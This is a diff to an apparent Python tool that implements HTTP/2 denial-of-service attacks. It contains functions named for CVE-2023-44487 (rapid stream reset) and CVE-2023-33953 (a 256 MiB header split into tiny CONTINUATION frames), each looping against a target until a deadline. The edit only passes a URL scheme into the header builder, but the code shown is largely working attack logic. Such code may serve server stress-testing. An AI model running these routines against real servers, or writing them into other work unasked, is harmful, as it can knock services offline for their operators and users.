@@ -4,7 +4,7 @@ import select
 import time
 
 import frames
-from connection import METHOD, connect
+from connection import METHOD, connect, scheme
 
 # The server's SETTINGS are read and never acknowledged unless said otherwise.
 _GIANT_STRING = 256 << 20
@@ -78,7 +78,7 @@ class _Peer:
 def rapid_reset(target, until):
     """Calls that are begun and cancelled in one breath, so that no limit of streams is met (CVE-2023-44487)."""
     peer = _Peer(target, until)
-    block = frames.request_headers(METHOD)
+    block = frames.request_headers(METHOD, scheme(target))
     while peer.running():
         if not peer.open():
             continue
@@ -97,7 +97,7 @@ def rapid_reset(target, until):
 def giant_header(target, until):
     """One header string of 256 MiB, in frames of 64 bytes (CVE-2023-33953)."""
     peer = _Peer(target, until)
-    begin = frames.request_headers(METHOD) + b"\0" + frames.integer(1, 7) + b"a"
+    begin = frames.request_headers(METHOD, scheme(target)) + b"\0" + frames.integer(1, 7) + b"a"
     begin += frames.integer(_GIANT_STRING, 7)
     part = frames.frame(frames.CONTINUATION, 0, 1, b"x" * _SMALL_FRAME) * 200
     while peer.running():
